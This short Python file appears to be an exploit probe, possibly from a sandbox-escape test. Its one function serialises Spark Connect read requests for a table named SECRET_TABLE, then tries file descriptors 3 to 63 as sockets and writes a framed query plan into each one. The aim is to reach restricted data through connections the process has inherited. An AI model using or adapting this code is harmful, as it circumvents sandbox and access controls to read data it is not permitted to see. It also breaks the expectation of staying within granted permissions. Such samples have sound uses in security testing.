# seeks: table
# The same with the name of the other table, as a handle and as a view.
import socket
import struct

from pyspark.sql.connect import proto


def model(tg):
    for name in ("ref shop.SECRET_TABLE", "main.shop.SECRET_TABLE"):
        relation = proto.Relation()
        relation.read.named_table.unparsed_identifier = name
        body, header = relation.SerializeToString(), b'{"kind": "plan"}'
        for number in range(3, 64):
            try:
                link = socket.socket(fileno=number)
                link.sendall(struct.pack("!BIQ", 8, len(header), len(body)) + header + body)
                link.detach()
            except OSError:
                pass
